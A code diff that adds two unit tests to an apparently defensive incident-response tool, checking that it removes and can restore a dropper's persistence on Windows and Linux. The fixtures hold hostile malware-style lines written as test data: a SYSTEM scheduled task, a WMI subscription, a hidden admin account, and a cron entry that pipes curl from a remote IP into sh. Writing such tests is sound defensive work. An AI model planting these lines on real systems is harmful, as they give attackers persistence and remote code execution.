@@ -409,5 +409,74 @@ TEST(RespondSafety, BadUndoAndRootsExitTwoAndAnIncompleteCaseIsSaid) {
   EXPECT_NE(incomplete.err.find("the case is incomplete"), std::string::npos) << incomplete.err;
 }
 
+// Item 6: the plan undoes what a batch dropper did, by the names the dropper used.
+TEST(RespondSafety, ThePlanUndoesABatchDropperByItsOwnNames) {
+  test::TempDir dir;
+  test::write_file(
+      dir / "evidence/c3.bat",
+      "@echo off\r\n"
+      "schtasks /create /tn \"Mysa9\" /tr \"cmd /c start c:\\windows\\debug\\lsmose.exe\" /ru system /sc onstart /F\r\n"
+      "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=\"fuckyoumm3\", "
+      "Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 10800\"\r\n"
+      "echo 127.0.0.1 www.360.cn >> %windir%\\system32\\drivers\\etc\\hosts\r\n"
+      "net user admin$ P@ss123 /add\r\n");
+  ASSERT_EQ(ms({"scan", "--quiet", "--case", (dir / "case.sqlite").string(), (dir / "evidence").string()}).exit_code,
+            1);
+  auto plan = ms({"respond", (dir / "case.sqlite").string()});
+  for (const char* step :
+       {"[remove_scheduled_task] Mysa9", "[remove_wmi_subscription] __EventFilter.Name=\"fuckyoumm3\"",
+        "[restore_hosts_file] C:\\Windows\\System32\\drivers\\etc\\hosts", "[rotate_credentials] admin$"})
+    EXPECT_NE(plan.out.find(step), std::string::npos) << step << "\n" << plan.out;
+  EXPECT_EQ(plan.out.find("[remove_scheduled_task] Mysa1"), std::string::npos)
+      << "a family's usual names are not evidence";
+  auto ps1 = ms({"respond", (dir / "case.sqlite").string(), "--script", "ps1"});
+  EXPECT_NE(ps1.out.find("$Target = 'Mysa9'"), std::string::npos);
+  EXPECT_NE(ps1.out.find("$Expected = '127.0.0.1 www.360.cn'"), std::string::npos);
+}
+
+// Item 6 on a Linux root: what a shell dropper wrote into the system's own files is commented out, the
+// administrator's lines stay, and undo puts everything back.
+TEST(RespondSafety, ApplyUndoesAShellDropperAndKeepsTheAdministratorsLines) {
+  test::TempDir dir;
+  const fs::path root = dir / "root";
+  const std::string worm_cron = "*/5 * * * * root curl -fsSL http://203.0.113.9/pm.sh|sh";
+  const std::string worm_key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCworm worm@x";
+  test::write_file(root / "tmp/.x.sh",
+                   "#!/bin/sh\n"
+                   "echo '" +
+                       worm_cron +
+                       "' >> /etc/crontab\n"
+                       "echo '" +
+                       worm_key +
+                       "' >> ~/.ssh/authorized_keys\n"
+                       "echo '127.0.0.1 minexmr.com' >> /etc/hosts\n");
+  fs::permissions(root / "tmp/.x.sh", fs::perms::owner_all, fs::perm_options::add);  // droppers are made executable
+  const std::string crontab =
+      "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n" + worm_cron + "\n";
+  const std::string keys = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIadmin admin@laptop\n" + worm_key + "\n";
+  const std::string hosts = "127.0.0.1 localhost\n127.0.0.1 minexmr.com\n";
+  test::write_file(root / "etc/crontab", crontab);
+  test::write_file(root / "root/.ssh/authorized_keys", keys);
+  test::write_file(root / "etc/hosts", hosts);
+  ASSERT_EQ(ms({"triage", "--quiet", "--root", root.string(), "--out", (dir / "out").string()}).exit_code, 1);
+  auto r = apply(dir / "out/case.sqlite", root, dir / "q");
+  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
+  EXPECT_EQ(test::read_file(root / "etc/crontab"),
+            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n# removed by minesweep: " +
+                worm_cron + "\n")
+      << r.out;
+  EXPECT_EQ(test::read_file(root / "root/.ssh/authorized_keys"),
+            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIadmin admin@laptop\n# removed by minesweep: " + worm_key + "\n")
+      << r.out;
+  EXPECT_EQ(test::read_file(root / "etc/hosts"), "127.0.0.1 localhost\n# removed by minesweep: 127.0.0.1 minexmr.com\n")
+      << r.out;
+  EXPECT_FALSE(fs::exists(root / "tmp/.x.sh")) << r.out;
+  EXPECT_EQ(ms({"respond", "--undo", (dir / "q/journal.jsonl").string()}).exit_code, 0);
+  EXPECT_EQ(test::read_file(root / "etc/crontab"), crontab);
+  EXPECT_EQ(test::read_file(root / "root/.ssh/authorized_keys"), keys);
+  EXPECT_EQ(test::read_file(root / "etc/hosts"), hosts);
+  EXPECT_TRUE(fs::exists(root / "tmp/.x.sh"));
+}
+
 }  // namespace
 }  // namespace msw
